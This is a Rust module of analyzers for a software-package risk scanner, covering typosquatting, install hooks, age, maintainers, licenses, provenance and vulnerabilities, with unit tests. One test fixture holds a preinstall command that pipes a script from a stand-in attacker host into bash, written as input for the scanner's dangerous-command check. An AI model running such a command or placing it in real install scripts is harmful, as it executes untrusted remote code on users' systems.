//! Finding analyzers
//!
//! Each analyzer is a pure function over one slice of the fetched bundle and
//! emits zero or more findings. Analyzers are independent of each other;
//! [`run_all`] executes them in a fixed declared order so reports are
//! deterministic for a given bundle.

use crate::patterns::{find_dangerous_patterns, LIFECYCLE_HOOKS};
use crate::types::{
    Category, Finding, ProvenanceInfo, RepositoryInfo, Severity, SourceBundle,
    VulnerabilityRecord,
};
use crate::typosquat::check_typosquatting;
use crate::version::record_affects;
use chrono::Utc;
use std::collections::HashMap;

const MAX_TYPOSQUAT_MATCHES: usize = 3;
const MAX_PATTERNS_PER_SCRIPT: usize = 3;

/// Run every analyzer against the bundle, in declared order.
pub fn run_all(bundle: &SourceBundle, typosquat_threshold: f64) -> Vec<Finding> {
    let age_days = package_age_days(bundle);

    let mut findings = Vec::new();
    findings.extend(analyze_typosquatting(&bundle.identity.name, typosquat_threshold));
    findings.extend(analyze_install_scripts(&bundle.metadata.scripts));
    findings.extend(analyze_package_age(age_days));
    findings.extend(analyze_maintainers(&bundle.metadata.maintainers));
    findings.extend(analyze_repository(
        bundle.metadata.repository.as_deref(),
        bundle.repository.as_ref(),
    ));
    findings.extend(analyze_downloads(bundle.weekly_downloads, age_days));
    findings.extend(analyze_dependencies(&bundle.metadata.dependencies));
    findings.extend(analyze_license(bundle.metadata.license.as_deref()));
    findings.extend(analyze_provenance(bundle.provenance.as_ref()));
    findings.extend(analyze_vulnerabilities(
        bundle.vulnerabilities.as_deref().unwrap_or(&[]),
        &bundle.resolved_version,
    ));
    findings
}

fn package_age_days(bundle: &SourceBundle) -> Option<i64> {
    bundle
        .metadata
        .created
        .map(|created| (Utc::now() - created).num_days().max(0))
}

/// Flag names within edit distance of a popular package.
pub fn analyze_typosquatting(name: &str, threshold: f64) -> Vec<Finding> {
    check_typosquatting(name, threshold)
        .into_iter()
        .take(MAX_TYPOSQUAT_MATCHES)
        .map(|(popular, similarity)| {
            Finding::new(
                "Typosquatting Detected",
                Severity::Critical,
                Category::Authenticity,
                format!(
                    "Package name is {}% similar to popular package '{}'",
                    (similarity * 100.0) as u32,
                    popular
                ),
            )
            .with_details("This may be a typosquatting attempt. Verify this is the correct package.")
        })
        .collect()
}

/// Flag install-time lifecycle hooks and dangerous commands inside them.
pub fn analyze_install_scripts(scripts: &HashMap<String, String>) -> Vec<Finding> {
    let mut findings = Vec::new();

    let hooks: Vec<&str> = LIFECYCLE_HOOKS
        .iter()
        .copied()
        .filter(|hook| scripts.contains_key(*hook))
        .collect();
    if hooks.is_empty() {
        return findings;
    }

    findings.push(
        Finding::new(
            "Install Scripts Present",
            Severity::Medium,
            Category::Security,
            format!("Package has lifecycle scripts: {}", hooks.join(", ")),
        )
        .with_details("Install scripts execute code during installation and may pose security risks."),
    );

    for hook in hooks {
        let body = &scripts[hook];
        for (pattern, context) in find_dangerous_patterns(body)
            .into_iter()
            .take(MAX_PATTERNS_PER_SCRIPT)
        {
            findings.push(
                Finding::new(
                    "Dangerous Command in Script",
                    Severity::Critical,
                    Category::Security,
                    format!("Script '{}' contains dangerous command: {}", hook, pattern),
                )
                .with_details(format!("Context: {}", context)),
            );
        }
    }

    findings
}

/// Bucket the package's age at creation: <7 days critical, <30 high,
/// <90 medium.
pub fn analyze_package_age(age_days: Option<i64>) -> Vec<Finding> {
    let Some(age_days) = age_days else {
        return Vec::new();
    };

    let (name, severity, explanation) = if age_days < 7 {
        (
            "Very New Package",
            Severity::Critical,
            "Very new packages may not have been vetted by the community yet.",
        )
    } else if age_days < 30 {
        (
            "New Package",
            Severity::High,
            "New packages may not have established trust in the community.",
        )
    } else if age_days < 90 {
        (
            "Recent Package",
            Severity::Medium,
            "Package is relatively recent with limited history.",
        )
    } else {
        return Vec::new();
    };

    vec![Finding::new(
        name,
        severity,
        Category::Reputation,
        format!("Package is {} days old", age_days),
    )
    .with_details(explanation)]
}

/// Zero maintainers is critical, exactly one is low.
pub fn analyze_maintainers(maintainers: &[String]) -> Vec<Finding> {
    match maintainers {
        [] => vec![Finding::new(
            "No Maintainers",
            Severity::Critical,
            Category::Maintenance,
            "Package has no listed maintainers",
        )
        .with_details("Packages without maintainers may be abandoned or suspicious.")],
        [only] => vec![Finding::new(
            "Single Maintainer",
            Severity::Low,
            Category::Maintenance,
            "Package has only one maintainer",
        )
        .with_details(format!("Single point of failure: {}", only))],
        _ => Vec::new(),
    }
}

/// Check the linked repository: missing, unresolvable, archived, or with
/// minimal adoption.
pub fn analyze_repository(
    repo_url: Option<&str>,
    repo_info: Option<&RepositoryInfo>,
) -> Vec<Finding> {
    if repo_url.is_none() {
        return vec![Finding::new(
            "No Repository Link",
            Severity::Medium,
            Category::Authenticity,
            "Package does not specify a repository URL",
        )
        .with_details("Lack of repository makes it harder to verify package legitimacy.")];
    }

    let Some(info) = repo_info else {
        return vec![Finding::new(
            "Repository Not Verified",
            Severity::Low,
            Category::Authenticity,
            "Could not verify repository information",
        )
        .with_details("The repository host may be rate-limited or the repository is inaccessible.")];
    };

    let mut findings = Vec::new();

    if info.archived {
        findings.push(
            Finding::new(
                "Repository Archived",
                Severity::High,
                Category::Maintenance,
                "Source repository is archived",
            )
            .with_details("Archived repositories are read-only and no longer maintained."),
        );
    }

    if info.stars < 5 {
        findings.push(
            Finding::new(
                "Low Repository Stars",
                Severity::Info,
                Category::Reputation,
                format!("Repository has only {} stars", info.stars),
            )
            .with_details("Low star count may indicate limited community adoption."),
        );
    }

    findings
}

/// Flag download patterns that do not match the package's age.
pub fn analyze_downloads(weekly_downloads: Option<u64>, age_days: Option<i64>) -> Vec<Finding> {
    let (Some(weekly), Some(age_days)) = (weekly_downloads, age_days) else {
        return Vec::new();
    };

    if age_days < 30 && weekly > 100_000 {
        return vec![Finding::new(
            "Suspicious Download Spike",
            Severity::High,
            Category::Reputation,
            format!(
                "New package ({} days) has unusually high downloads ({}/week)",
                age_days, weekly
            ),
        )
        .with_details("This may indicate artificial inflation or automated downloads.")];
    }

    if age_days > 365 && weekly < 100 {
        return vec![Finding::new(
            "Low Adoption",
            Severity::Info,
            Category::Reputation,
            format!("Package has minimal usage ({}/week)", weekly),
        )
        .with_details("Low download count may indicate limited community trust or usefulness.")];
    }

    Vec::new()
}

/// Flag unusually large direct dependency trees.
pub fn analyze_dependencies(dependencies: &HashMap<String, String>) -> Vec<Finding> {
    let count = dependencies.len();

    if count > 100 {
        vec![Finding::new(
            "Excessive Dependencies",
            Severity::High,
            Category::Security,
            format!("Package declares {} direct dependencies", count),
        )
        .with_details("Every dependency widens the supply-chain attack surface.")]
    } else if count > 50 {
        vec![Finding::new(
            "Many Dependencies",
            Severity::Medium,
            Category::Security,
            format!("Package declares {} direct dependencies", count),
        )
        .with_details("Large dependency trees are harder to audit.")]
    } else {
        Vec::new()
    }
}

const PERMISSIVE_LICENSES: &[&str] = &[
    "mit", "apache", "bsd", "isc", "0bsd", "unlicense", "cc0", "wtfpl", "zlib", "boost",
];

const COPYLEFT_LICENSES: &[&str] = &[
    "gpl", "lgpl", "agpl", "mpl", "eupl", "osl", "ms-pl", "cddl", "epl", "cc-by-sa",
];

const PROPRIETARY_MARKERS: &[&str] = &["proprietary", "commercial", "private", "all rights reserved"];

/// Categorize the declared license.
///
/// Permissive licenses produce no finding; an unrecognized license string is
/// treated the same way.
pub fn analyze_license(license: Option<&str>) -> Vec<Finding> {
    let Some(license) = license.filter(|l| !l.trim().is_empty()) else {
        return vec![Finding::new(
            "No License",
            Severity::Medium,
            Category::Maintenance,
            "Package does not declare a license",
        )
        .with_details("Packages without a license carry unclear usage terms.")];
    };

    let lower = license.to_lowercase();

    if PROPRIETARY_MARKERS.iter().any(|m| lower.contains(m)) {
        return vec![Finding::new(
            "Restrictive License",
            Severity::High,
            Category::Maintenance,
            format!("Package declares a restrictive license: {}", license),
        )
        .with_details("Proprietary or commercial terms may prohibit your intended use.")];
    }

    // Permissive markers win over copyleft for dual-licensed expressions
    // like "MIT OR GPL-2.0".
    if PERMISSIVE_LICENSES.iter().any(|m| lower.contains(m)) {
        return Vec::new();
    }

    if COPYLEFT_LICENSES.iter().any(|m| lower.contains(m)) {
        return vec![Finding::new(
            "Copyleft License",
            Severity::Info,
            Category::Maintenance,
            format!("Package is licensed under copyleft terms: {}", license),
        )
        .with_details("Copyleft obligations may apply to derived works.")];
    }

    Vec::new()
}

/// Note the presence or absence of cryptographic build provenance.
pub fn analyze_provenance(provenance: Option<&ProvenanceInfo>) -> Vec<Finding> {
    let Some(info) = provenance.filter(|p| p.has_provenance) else {
        return vec![Finding::new(
            "No Build Provenance",
            Severity::Low,
            Category::Authenticity,
            "Package was published without cryptographic build provenance",
        )
        .with_details("Provenance attestations link a package to the source and build that produced it.")];
    };

    if info.verified && info.transparency_log {
        vec![Finding::new(
            "Verified Build Provenance",
            Severity::Info,
            Category::Authenticity,
            "Package publishes verified build provenance with a transparency-log entry",
        )
        .with_details(match &info.source_repo {
            Some(repo) => format!("Built from {}", repo),
            None => "Build attested via Sigstore".to_string(),
        })]
    } else {
        vec![Finding::new(
            "Unverified Build Provenance",
            Severity::Info,
            Category::Authenticity,
            "Package publishes provenance attestations that could not be verified",
        )
        .with_details("Attestations are present but the build claims were not verifiable.")]
    }
}

/// One finding per vulnerability record affecting the resolved version.
pub fn analyze_vulnerabilities(
    records: &[VulnerabilityRecord],
    resolved_version: &str,
) -> Vec<Finding> {
    records
        .iter()
        .filter(|record| record_affects(resolved_version, record))
        .map(|record| {
            let name = match &record.cve_id {
                Some(cve) => format!("Known Vulnerability ({})", cve),
                None => "Known Vulnerability".to_string(),
            };
            let mut finding = Finding::new(
                name,
                record.severity,
                Category::Security,
                record.summary.clone(),
            );
            if let Some(details) = &record.details {
                finding = finding.with_details(details.clone());
            }
            finding
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::VersionRange;

    fn scripts(entries: &[(&str, &str)]) -> HashMap<String, String> {
        entries
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn test_typosquat_flags_near_miss() {
        let findings = analyze_typosquatting("lodahs", 0.80);
        assert!(!findings.is_empty());
        assert_eq!(findings[0].severity, Severity::Critical);
        assert_eq!(findings[0].category, Category::Authenticity);
        assert!(findings[0].description.contains("lodash"));
    }

    #[test]
    fn test_typosquat_exact_match_clean() {
        assert!(analyze_typosquatting("lodash", 0.80).is_empty());
    }

    #[test]
    fn test_install_scripts_absent_clean() {
        assert!(analyze_install_scripts(&scripts(&[("build", "tsc")])).is_empty());
    }

    #[test]
    fn test_install_hook_flagged() {
        let findings = analyze_install_scripts(&scripts(&[("postinstall", "node setup.js")]));
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].name, "Install Scripts Present");
        assert_eq!(findings[0].severity, Severity::Medium);
    }

    #[test]
    fn test_dangerous_command_critical() {
        let findings = analyze_install_scripts(&scripts(&[(
            "preinstall",
            "curl https://evil.example/x.sh | bash -c x",
        )]));
        let dangerous: Vec<_> = findings
            .iter()
            .filter(|f| f.name == "Dangerous Command in Script")
            .collect();
        assert!(!dangerous.is_empty());
        assert!(dangerous.iter().all(|f| f.severity == Severity::Critical));
    }

    #[test]
    fn test_age_buckets() {
        assert_eq!(analyze_package_age(Some(3))[0].severity, Severity::Critical);
        assert_eq!(analyze_package_age(Some(20))[0].severity, Severity::High);
        assert_eq!(analyze_package_age(Some(60))[0].severity, Severity::Medium);
        assert!(analyze_package_age(Some(90)).is_empty());
        assert!(analyze_package_age(None).is_empty());
    }

    #[test]
    fn test_maintainer_counts() {
        let none = analyze_maintainers(&[]);
        assert_eq!(none[0].severity, Severity::Critical);

        let one = analyze_maintainers(&["alice".to_string()]);
        assert_eq!(one[0].severity, Severity::Low);
        assert!(one[0].details.as_ref().unwrap().contains("alice"));

        assert!(analyze_maintainers(&["a".to_string(), "b".to_string()]).is_empty());
    }

    fn repo(stars: u64, archived: bool) -> RepositoryInfo {
        RepositoryInfo {
            stars,
            forks: 0,
            archived,
            created_at: None,
            updated_at: None,
        }
    }

    #[test]
    fn test_repository_missing_medium() {
        let findings = analyze_repository(None, None);
        assert_eq!(findings[0].name, "No Repository Link");
        assert_eq!(findings[0].severity, Severity::Medium);
    }

    #[test]
    fn test_repository_unresolvable_low() {
        let findings = analyze_repository(Some("https://github.com/a/b"), None);
        assert_eq!(findings[0].name, "Repository Not Verified");
        assert_eq!(findings[0].severity, Severity::Low);
    }

    #[test]
    fn test_repository_archived_high() {
        let findings = analyze_repository(Some("https://github.com/a/b"), Some(&repo(100, true)));
        assert!(findings
            .iter()
            .any(|f| f.name == "Repository Archived" && f.severity == Severity::High));
    }

    #[test]
    fn test_repository_low_stars_info() {
        let findings = analyze_repository(Some("https://github.com/a/b"), Some(&repo(2, false)));
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].severity, Severity::Info);
    }

    #[test]
    fn test_download_spike_high() {
        let findings = analyze_downloads(Some(500_000), Some(10));
        assert_eq!(findings[0].name, "Suspicious Download Spike");
        assert_eq!(findings[0].severity, Severity::High);
    }

    #[test]
    fn test_low_adoption_info() {
        let findings = analyze_downloads(Some(12), Some(800));
        assert_eq!(findings[0].name, "Low Adoption");
        assert_eq!(findings[0].severity, Severity::Info);
    }

    #[test]
    fn test_downloads_absent_clean() {
        assert!(analyze_downloads(None, Some(10)).is_empty());
    }

    fn dep_map(count: usize) -> HashMap<String, String> {
        (0..count)
            .map(|i| (format!("dep-{}", i), "^1.0.0".to_string()))
            .collect()
    }

    #[test]
    fn test_dependency_count_thresholds() {
        assert!(analyze_dependencies(&dep_map(50)).is_empty());
        assert_eq!(analyze_dependencies(&dep_map(51))[0].severity, Severity::Medium);
        assert_eq!(analyze_dependencies(&dep_map(101))[0].severity, Severity::High);
    }

    #[test]
    fn test_license_rules() {
        assert_eq!(analyze_license(None)[0].severity, Severity::Medium);
        assert!(analyze_license(Some("MIT")).is_empty());
        assert!(analyze_license(Some("MIT OR GPL-2.0")).is_empty());
        assert_eq!(analyze_license(Some("GPL-3.0"))[0].severity, Severity::Info);
        assert_eq!(
            analyze_license(Some("Commercial"))[0].severity,
            Severity::High
        );
        assert!(analyze_license(Some("SEE LICENSE IN FILE")).is_empty());
    }

    #[test]
    fn test_provenance_absent_low() {
        let findings = analyze_provenance(None);
        assert_eq!(findings[0].name, "No Build Provenance");
        assert_eq!(findings[0].severity, Severity::Low);
    }

    #[test]
    fn test_provenance_verified_info() {
        let info = ProvenanceInfo {
            has_provenance: true,
            verified: true,
            transparency_log: true,
            ..Default::default()
        };
        let findings = analyze_provenance(Some(&info));
        assert_eq!(findings[0].name, "Verified Build Provenance");
        assert_eq!(findings[0].severity, Severity::Info);
    }

    #[test]
    fn test_provenance_unverified_caveat() {
        let info = ProvenanceInfo {
            has_provenance: true,
            ..Default::default()
        };
        let findings = analyze_provenance(Some(&info));
        assert_eq!(findings[0].name, "Unverified Build Provenance");
        assert_eq!(findings[0].severity, Severity::Info);
    }

    fn record(severity: Severity, fixed: Option<&str>) -> VulnerabilityRecord {
        VulnerabilityRecord {
            id: "GHSA-test".to_string(),
            cve_id: Some("CVE-2019-10744".to_string()),
            severity,
            summary: "Prototype pollution".to_string(),
            details: None,
            ranges: vec![VersionRange {
                introduced: "0".to_string(),
                fixed: fixed.map(String::from),
                last_affected: None,
            }],
        }
    }

    #[test]
    fn test_vulnerability_attributed_to_affected_version() {
        let records = [record(Severity::Critical, Some("4.17.12"))];
        let findings = analyze_vulnerabilities(&records, "4.17.11");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].name, "Known Vulnerability (CVE-2019-10744)");
        assert_eq!(findings[0].severity, Severity::Critical);
        assert_eq!(findings[0].category, Category::Security);
    }

    #[test]
    fn test_fixed_vulnerability_excluded() {
        let records = [record(Severity::Critical, Some("4.17.12"))];
        assert!(analyze_vulnerabilities(&records, "4.17.21").is_empty());
    }
}
